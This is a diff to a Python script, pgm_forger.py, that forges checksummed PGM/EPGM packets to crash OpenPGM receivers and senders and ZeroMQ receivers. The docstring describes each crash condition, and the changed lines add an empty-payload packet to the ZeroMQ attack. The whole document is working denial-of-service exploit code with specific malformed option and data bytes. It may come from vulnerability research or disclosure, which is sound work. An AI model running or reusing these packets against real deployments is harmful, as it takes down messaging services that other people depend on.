@@ -1,7 +1,7 @@
 """Sends one forged PGM packet with a valid checksum: `pgm_forger.py pgm|epgm VICTIM ADDRESS GROUP PORT`, from the interface with
 this address. VICTIM is `receiver`, whose OpenPGM aborts on options that do not begin with their length; `sender`, whose OpenPGM
 walks an option of length 0 for ever (what names the sender is taken from what it sends); or `zeromq`, any ZeroMQ that receives,
-which aborts on data that says its first message lies behind its end, and on a single byte."""
+which aborts on data that says its first message lies behind its end, on a single byte, and (epgm) on none."""
 
 import socket
 import struct
@@ -58,7 +58,7 @@ def main(scheme, victim, address, group, port):
     if victim == "receiver":
         packets = [data_of_a_stranger(port, 1, OPTIONS_PRESENT, bytes([1, 4, 0, 8, 0x81, 4, 0, 0]))]
     elif victim == "zeromq":
-        packets = [data_of_a_stranger(port, 1, 0, b"\x70\x00ab"), data_of_a_stranger(port, 2, 0, b"a")]
+        packets = [data_of_a_stranger(port, 1, 0, b"\x70\x00ab"), data_of_a_stranger(port, 2, 0, b"a"), b""]
     else:
         sender = listen_to_sender(group, port)
         packets, to = [nak_with_an_endless_option(sender, group, port)], sender[0]
